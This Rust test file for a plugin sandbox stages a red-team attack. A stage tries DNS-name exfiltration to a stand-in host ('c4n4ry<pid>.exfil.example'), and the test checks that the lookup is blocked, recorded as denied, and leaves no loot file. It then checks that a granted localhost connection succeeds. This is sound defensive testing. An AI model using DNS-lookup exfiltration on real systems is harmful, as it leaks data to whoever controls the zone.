//! The sandbox's seams, read as a red team would: each test makes the attack and then checks
//! the state it would have changed (files, digests, listeners, processes), not the plugin's word.

use anyhow::Result;
use sluice::exit_codes;
use sluice::model::report::StageStatus::{Failed, Succeeded};

use crate::support::{Listener, Pipeline, Sandbox, Stage, stopped_at};

#[test]
fn only_granted_names_resolve_and_refused_lookups_are_recorded() -> Result<()> {
    let granted = Listener::start(false)?;
    let sandbox = Sandbox::new()?;
    // The name is the message: a lookup of it would hand it to whoever runs the zone.
    let exfil = format!("c4n4ry{}.exfil.example", std::process::id());
    let run = sandbox.run_pipeline(&Pipeline::three_stage(
        Stage::new("attack", "net-probe")
            .allow("net", [granted.addr.to_string()])
            .config("mode", "dns")
            .config("target", exfil.as_str()),
    ))?;
    run.assert_stages(exit_codes::STAGE_FAILED, &stopped_at("attack", Failed))
        .assert_message("attack", &["blocked: dns"]);
    assert!(!run.run_dir().join("artifacts/attack/loot.txt").exists());
    let denied = &run.stage("attack").denied;
    assert_eq!(
        denied,
        &[format!("name lookup of `{exfil}`")],
        "{}",
        run.describe()
    );

    // A granted name resolves (to what it was when the stage started) and connects.
    let port = granted.addr.port();
    let run = sandbox.run_pipeline(&Pipeline::three_stage(
        Stage::new("attack", "net-probe")
            .allow("net", [format!("localhost:{port}")])
            .config("mode", "tcp")
            .config("target", format!("localhost:{port}")),
    ))?;
    run.assert_stages(
        exit_codes::SUCCESS,
        &[
            ("code", Succeeded),
            ("attack", Succeeded),
            ("release", Succeeded),
        ],
    );
    assert_eq!(granted.connections(), 1);
    assert!(run.stage("attack").denied.is_empty(), "{}", run.describe());
    Ok(())
}
